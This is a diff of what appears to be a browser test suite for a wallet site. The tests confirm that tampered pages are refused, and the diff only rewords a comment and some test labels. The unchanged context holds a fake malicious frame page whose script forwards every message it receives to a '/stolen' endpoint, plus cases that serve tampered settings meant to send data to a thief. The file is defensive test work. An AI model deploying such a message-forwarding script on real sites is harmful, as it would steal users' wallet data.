@@ -12,7 +12,7 @@ afterAll(closeBrowser)
 const REFUSED = 'Your wallet’s page was changed in transit and was not opened.'
 const site = stack.urls?.secureSite
 
-/** Forwards everything it receives, and answers so that the visitor goes on to type the code. */
+/** Forwards everything it receives, and responds so that the visitor goes on to type the code. */
 const FALSE_FRAME = `<!doctype html><script>
   addEventListener('message', ({ data }) => {
     fetch('/stolen?' + encodeURIComponent(JSON.stringify(data)))
@@ -46,10 +46,10 @@ async function visitThief({ path, ...answer }: Served): Promise<{ visitor: Visit
 }
 
 test.each<[what: string, served: Served]>([
-  ['a page of his own in the frame', { path: '/sdk*', contentType: 'text/html', body: FALSE_FRAME }],
-  ['a page of his own beside it', { path: '/approve', contentType: 'text/html', body: FALSE_FRAME }],
+  ['a fake page in the frame', { path: '/sdk*', contentType: 'text/html', body: FALSE_FRAME }],
+  ['a fake page beside the frame', { path: '/approve', contentType: 'text/html', body: FALSE_FRAME }],
   [
-    'the right page, which is told to send all of it to him',
+    'the right page with settings that send everything to the thief',
     {
       path: '/settings.json',
       contentType: 'application/json',
